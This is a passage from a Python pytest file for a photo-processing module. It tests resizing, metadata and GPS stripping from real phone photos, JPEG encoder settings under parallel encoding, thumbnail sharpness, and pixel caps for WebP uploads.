    assert geometry.scaled_size((3200, 2400), 0.5) == (1600, 1200)
    assert geometry.scaled_size((3001, 2001), 0.5) == (1501, 1001)
    assert geometry.scaled_size((4000, 3000), 0.0001) == (1, 1)
    assert geometry.scaled_size((4000, 3000), 2.0) == (4000, 3000)


# --- the real phone photos ---------------------------------------------------------------


def shared_photos() -> Iterator[tuple[str, str, tuple[int, int]]]:
    """(file, Pillow format, shown size) from the summary table of SOURCES.md."""
    sources = PHOTOS / "SOURCES.md"
    if not sources.exists():
        return
    for line in sources.read_text(encoding="utf-8").splitlines():
        cells = [cell.strip() for cell in line.strip().strip("|").split("|")]
        if len(cells) < 5 or not cells[0].startswith("`"):
            continue
        shown = re.match(r"(\d+)×(\d+)", cells[4])
        fmt = re.search(r"[A-Z]{3,4}", cells[1])
        assert shown and fmt, line
        yield cells[0].strip("`"), fmt.group(0), (int(shown[1]), int(shown[2]))


SHARED = list(shared_photos())


@pytest.mark.skipif(not SHARED, reason="shared photos not present")
@pytest.mark.parametrize(("name", "fmt", "shown"), SHARED, ids=[row[0] for row in SHARED])
def test_it_processes_each_real_phone_photo(name: str, fmt: str, shown: tuple[int, int]) -> None:
    path = PHOTOS / name
    with path.open("rb") as fp:
        try:
            info = inspect_upload(fp, size=path.stat().st_size, policy=POLICY)
        except ImageRejected as refused:
            assert refused.code == "too_small"
            assert min(shown) < 320
        else:
            assert (info.format, (info.width, info.height)) == (fmt, shown)
        result = process_image(fp, policy=POLICY)

    assert result.metadata.format == fmt
    assert (result.metadata.width, result.metadata.height) == shown
    display = opened(rendition(result, "display"))
    # Same shape as the photo shown upright (to a pixel of rounding).
    assert abs(display.width * shown[1] - display.height * shown[0]) <= max(shown)
    assert (display.width >= display.height) == (shown[0] >= shown[1])
    assert opened(rendition(result, "share")).size == (1200, 630)
    assert_bare_of_original_metadata(result)


def assert_bare_of_original_metadata(result: ProcessResult) -> None:
    for file in result.files:
        assert b"Exif" not in file.data
        assert b"http://ns.adobe.com/xap" not in file.data
        assert len(opened(file).getexif()) == 0


def test_it_knows_which_real_photos_had_gps() -> None:
    if not SHARED:
        pytest.skip("shared photos not present")
    with_gps = {
        "jpeg_nokia8.3-5g_gps.jpg",
        "jpeg_pixel4a_gps_ultrahdr-gainmap.jpg",
        "jpeg_iphone13mini_hdr-gainmap_mpo.jpg",
        "heic_iphone11promax_gps.heic",
    }
    for name in ("jpeg_nokia8.3-5g_gps.jpg", "jpeg_orient3_landscape.jpg", "webp_hopper.webp"):
        result = process((PHOTOS / name).read_bytes(), wanted=set())
        assert result.metadata.had_gps is (name in with_gps), name


def test_it_encodes_each_format_with_its_own_settings_when_encoders_run_in_parallel() -> None:
    """The WebP and the JPEG of one size are encoded at the same time: the JPEG must still
    come out at the JPEG quality, every time (Pillow keeps save options on the image)."""
    from photos.imaging import encoding

    # Quantisation tables depend on the quality setting only, not on the pixels.
    wanted = Image.open(
        io.BytesIO(encode(photo(64, 64), "JPEG", quality=encoding.JPEG_QUALITY))
    ).quantization  # type: ignore[attr-defined]
    source = encode(photo(1800, 1200, seed=3), "JPEG", quality=95)
    assert encoding.ENCODER_THREADS >= 1
    for run in range(12):
        result = imaging.process_image(io.BytesIO(source), policy=POLICY)
        for file in result.files:
            if file.format == "jpeg":
                tables = Image.open(io.BytesIO(file.data)).quantization  # type: ignore[attr-defined]
                assert tables == wanted, f"run {run}: the {file.spec} JPEG had other options"


def test_it_makes_the_thumb_as_a_full_lanczos_pass_would_look() -> None:
    """The thumb is cut from the display rendition with a cheap halving first (the cascade's
    reducing gap): its stripes, 2.4 px wide at thumb size, stay as crisp as after one careful
    resize of the whole photo (a blur of 1 px is 17 apart, the lossy WebP itself about 6)."""
    source = photo(3200, 2400, seed=4)
    draw = ImageDraw.Draw(source)
    for x in range(0, 3200, 48):
        draw.rectangle((x, 0, x + 15, 2400), fill=(20, 20, 20))
    thumb = opened(rendition(process(encode(source, "PNG")), "thumb", "webp")).convert("RGB")
    careful = source.resize(thumb.size, Image.Resampling.LANCZOS)
    assert difference(thumb, careful) < 8
    assert difference(thumb, careful.filter(ImageFilter.GaussianBlur(1))) > 12


def test_it_caps_a_webp_lower_than_other_formats_of_the_same_size() -> None:
    """A WebP is decoded whole (no scaled decode): past its own cap it is refused before
    decoding, where a JPEG of the same size is taken."""
    policy = dataclasses.replace(POLICY, max_pixels_by_format=(("WEBP", 1_000_000),))
    big = photo(1600, 1000)
    with pytest.raises(ImageRejected) as refused:
        inspect(encode(big, "WEBP"), policy)
    assert refused.value.code == "too_many_pixels"
    assert refused.value.params == {"megapixels": 1.6, "max_megapixels": 1}
    with pytest.raises(ImageDecodeError):
        process(encode(big, "WEBP"), policy=policy)
    assert inspect(encode(big, "JPEG"), policy).width == 1600
